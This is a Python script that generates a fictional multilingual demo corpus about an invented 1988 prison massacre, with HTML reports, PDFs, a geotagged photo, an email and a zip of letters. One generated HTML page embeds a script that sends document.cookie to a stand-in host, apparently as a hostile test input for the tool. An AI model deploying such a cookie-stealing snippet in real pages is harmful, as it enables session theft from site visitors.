"""Write the fictional demo corpus under demo/corpus/ (run once; the output is committed).

Everything here is invented: the prison, the people, the organisations and their
statements. Each file says so. Needs WeasyPrint for the PDFs (not a runtime dependency).
"""

from __future__ import annotations

import io
import zipfile
from email.message import EmailMessage
from pathlib import Path

from PIL import Image, ImageDraw, ImageFont

OUT = Path(__file__).resolve().parent.parent / "demo" / "corpus"
NOTICE_EN = "FICTIONAL DEMO DOCUMENT: every name, organisation, place and event here is invented."
NOTICE_FA = "سند نمایشی ساختگی: همه نام‌ها، سازمان‌ها، مکان‌ها و رویدادها ساختگی‌اند."
NOTICE_AR = "وثيقة عرض خيالية: جميع الأسماء والمنظمات والأماكن والأحداث مختلقة."

JDC_REPORT = f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>Dashtabad 1988: the missing prisoners</title>
<link rel="canonical" href="https://jdc.example.org/reports/dashtabad-1988">
<meta name="author" content="Justice for Dashtabad Coalition">
<meta property="article:published_time" content="2019-08-12">
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
</head><body>
<nav><a href="/">Home</a> | <a href="/reports">Reports</a> | <a href="/donate">Donate</a></nav>
<article>
<p><em>{NOTICE_EN}</em></p>
<h1>Dashtabad 1988: the missing prisoners</h1>
<p>The Justice for Dashtabad Coalition (JDC) has documented that at least 2,800 prisoners were
executed at Dashtabad Prison between July and September 1988. The executions followed
hearings before a three-member panel that prisoners called the "commission".</p>
<p>"We were asked one question: do you still hold your beliefs? Those who said yes never
came back," a former prisoner, identified as Witness A, told JDC researchers.</p>
<p>According to JDC director Leila Karimi, the bodies of the victims were buried in unmarked
trenches east of the prison. "Families were never told where their loved ones lie," Karimi
said on 12 August 2019.</p>
<p>JDC names Dariush Farahani, then deputy prosecutor of Arvand Province, as a member of the
panel. Farahani has not responded to JDC's letters.</p>
</article>
<div class="share">Share: Facebook · Twitter · Telegram · Email</div>
<footer>© 2019 Justice for Dashtabad Coalition. All rights reserved.</footer>
</body></html>
"""

PRF_STATEMENT = f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>PRF: the world must not forget Dashtabad</title>
<meta name="author" content="People's Resistance Front press office">
<meta property="article:published_time" content="2021-06-20">
</head><body>
<nav>PRF News | Statements | Campaigns</nav>
<article>
<p><em>{NOTICE_EN}</em></p>
<h1>The world must not forget Dashtabad</h1>
<p>The People's Resistance Front (PRF) reported that more than 30,000 political prisoners
were executed across the country in the summer of 1988, most of them PRF supporters.</p>
<p>The PRF press office stated that JDC director Leila Karimi said: "Families were never told
where their loved ones lie."</p>
<p>"Dariush Farahani sat on the death commission and must face justice," the PRF
spokesperson Omid Saberi said on 20 June 2021.</p>
</article>
<div>Tags: </div>
<footer>Copyright © 2021 PRF. All Rights Reserved.</footer>
</body></html>
"""

ANA_NEWS_FA = f"""<!DOCTYPE html>
<html lang="fa" dir="rtl"><head><meta charset="utf-8">
<title>خبرگزاری اروند: ادعاهای دروغ درباره زندان دشت‌آباد</title>
<meta property="article:published_time" content="2019-08-14">
</head><body>
<nav>صفحه اصلی | سیاسی | اجتماعی</nav>
<article>
<p><em>{NOTICE_FA}</em></p>
<h1>ادعاهای دروغ درباره زندان دشت‌آباد</h1>
<p>رضا تبریزی، سخنگوی دادگستری استان اروند، روز ۲۳ مرداد ۱۳۹۸ گفت: «هیچ اعدامی خارج از
روند قانونی در زندان دشت‌آباد انجام نشده است.»</p>
<p>به گفته تبریزی، گزارش ائتلاف عدالت برای دشت‌آباد «بر پایه شایعات» تهیه شده است.</p>
<p>او افزود که در مرداد ۱۳۶۷ تنها «چند ده نفر» از اعضای گروه‌های مسلح محاکمه شدند.</p>
</article>
<footer>کلیه حقوق برای خبرگزاری اروند محفوظ است.</footer>
</body></html>
"""

ALRASED_AR = f"""{NOTICE_AR}

الراصد — تقرير خاص

قال الباحث سامي حداد إن «آلاف السجناء السياسيين أُعدموا في صيف عام ١٩٨٨ في سجن دشت آباد».
ووفقاً لشهادات جمعتها لجنة التحقيق المستقلة، دُفن الضحايا في مقابر جماعية شرق السجن.
نُشر هذا التقرير في ١٥ آب ٢٠٢٠.
"""

WITNESS_FA = f"""<html lang="fa" dir="rtl"><head><meta charset="utf-8">
<style>body {{ font-family: 'DejaVu Sans'; direction: rtl; font-size: 12pt; }}</style></head>
<body>
<p>{NOTICE_FA}</p>
<h2>متن شهادت شاهد الف (نام مستعار)</h2>
<p>تاریخ مصاحبه: ۱۰ اسفند ۱۴۰۰</p>
<p>شاهد الف گفت: «در مرداد ۱۳۶۷ ما را یکی یکی به اتاقی بردند. سه نفر پشت میز نشسته بودند.»</p>
<p>او افزود که داریوش فراهانی یکی از آن سه نفر بود و «بیش از ۲۰۰ نفر» از هم‌بندانش
دیگر بازنگشتند.</p>
</body></html>
"""

ICID_BRIEFING = f"""<html lang="en"><head><meta charset="utf-8">
<style>body {{ font-family: 'DejaVu Sans'; font-size: 11pt; }}
.page {{ page-break-after: always; }}</style></head><body>
<div class="page">
<p><em>{NOTICE_EN}</em></p>
<h1>Independent Commission of Inquiry on Dashtabad (ICID)</h1>
<h2>Briefing note, 3 March 2022</h2>
<p>The Commission estimates that between 4,000 and 5,000 prisoners were executed at Dashtabad
Prison in July and August 1988.</p>
</div>
<div class="page">
<p>The Commission has received testimony from 41 former prisoners. It requested access to
the prison archive on 10 January 2022; the authorities have not replied.</p>
<p>"The families have a right to know the truth," the Commission's chair, Judge Tove
Arnesdotter, said.</p>
</div>
</body></html>
"""

NOTES_FA_1256 = f"""{NOTICE_FA}
یادداشت‌های مستندساز: در تابستان ۱۳۶۷ خانواده‌ها هر هفته جلوی زندان دشت‌آباد جمع می‌شدند.
مادر یکی از زندانیان گفت ساک لباس پسرش را در شهریور ۱۳۶۷ به او پس دادند.
"""


def _pdf(html: str, path: Path) -> None:
    from weasyprint import HTML

    HTML(string=html).write_pdf(path)


def _photo(path: Path) -> None:
    image = Image.new("RGB", (480, 320), (120, 110, 90))
    draw = ImageDraw.Draw(image)
    draw.rectangle((40, 180, 440, 230), fill=(80, 70, 55))
    draw.text((20, 20), "FICTIONAL DEMO PHOTO - invented site", fill=(255, 255, 255))
    exif = Image.Exif()
    exif[0x010F] = "DemoCam"  # Make
    exif[0x0110] = "Model F1"  # Model
    exif[0x0132] = "2021:05:04 10:31:00"  # DateTime
    gps = {1: "N", 2: (35.0, 41.0, 12.5), 3: "E", 4: (51.0, 2.0, 30.0)}
    exif[0x8825] = gps
    image.save(path, "JPEG", exif=exif, quality=80)


def _scan(path: Path) -> None:
    """A page with no text layer, as a scanner makes it: only OCR can read it."""
    font = ImageFont.truetype("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf", 34)
    image = Image.new("L", (1654, 1100), 250)
    draw = ImageDraw.Draw(image)
    lines = ["FICTIONAL DEMO DOCUMENT - an invented scanned page.",
             "Dashtabad Prison, transfer register (fictional).",
             "4 August 1988: fourteen prisoners moved from ward 3 at night.",
             "Signed: duty officer (name illegible)."]
    for row, line in enumerate(lines):
        draw.text((120, 140 + 90 * row), line, font=font, fill=20)
    for row, line in enumerate(["زندان دشت‌آباد مرداد ۱۳۶۷"]):
        draw.text((1534, 600 + 90 * row), line, font=font, fill=20, anchor="ra",
                  direction="rtl")
    image.rotate(0.6, fillcolor=250).save(path, "PDF", resolution=150)


def _email(path: Path, attachment: bytes) -> None:
    message = EmailMessage()
    message["From"] = "Documenter B <documenter.b@example.org>"
    message["To"] = "intake@jdc.example.org"
    message["Subject"] = "Tip: possible burial site east of Dashtabad (fictional demo)"
    message["Date"] = "Tue, 04 May 2021 11:02:00 +0430"
    message["Message-ID"] = "<demo-0001@example.org>"
    message.set_content(
        f"{NOTICE_EN}\n\nA shepherd told me that in August 1988 trucks came at night to the "
        "field east of Dashtabad Prison. Photo of the site attached. The GPS position is in the "
        "photo.\n\nDocumenter B\n")
    message.add_attachment(attachment, maintype="image", subtype="jpeg",
                           filename="site-photo.jpg")
    path.write_bytes(bytes(message))


def _zip(path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("letters/letter-1988-09.txt",
                         f"{NOTICE_EN}\nLetter from a mother, September 1988: they returned his "
                         "bag of clothes and said nothing else.\n")
        archive.writestr("letters/letter-1989-02.txt",
                         f"{NOTICE_EN}\nFebruary 1989: still no word of where he is buried.\n")
    path.write_bytes(buffer.getvalue())


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    (OUT / "protected").mkdir(exist_ok=True)
    (OUT / "jdc-report-2019.html").write_text(JDC_REPORT)
    (OUT / "prf-statement-2021.html").write_text(PRF_STATEMENT)
    (OUT / "ana-news-1398.html").write_text(ANA_NEWS_FA)
    (OUT / "alrased-report-2020.txt").write_text(ALRASED_AR)
    _pdf(ICID_BRIEFING, OUT / "icid-briefing-2022.pdf")
    _pdf(WITNESS_FA, OUT / "protected" / "witness-a-testimony.pdf")
    # Windows-1256 has no Farsi yeh or Persian digits: old files use Arabic yeh and Latin.
    legacy = NOTES_FA_1256.translate({0x6CC: 0x64A, **{0x6F0 + i: 0x30 + i for i in range(10)}})
    (OUT / "protected" / "documenter-notes-cp1256.txt").write_bytes(legacy.encode("cp1256"))
    photo = OUT / "site-photo.jpg"
    _photo(photo)
    _email(OUT / "tip-from-documenter-b.eml", photo.read_bytes())
    _zip(OUT / "family-letters.zip")
    _scan(OUT / "transfer-register-scan.pdf")
    print(f"wrote {len(list(OUT.rglob('*.*')))} files to {OUT}")


if __name__ == "__main__":
    main()
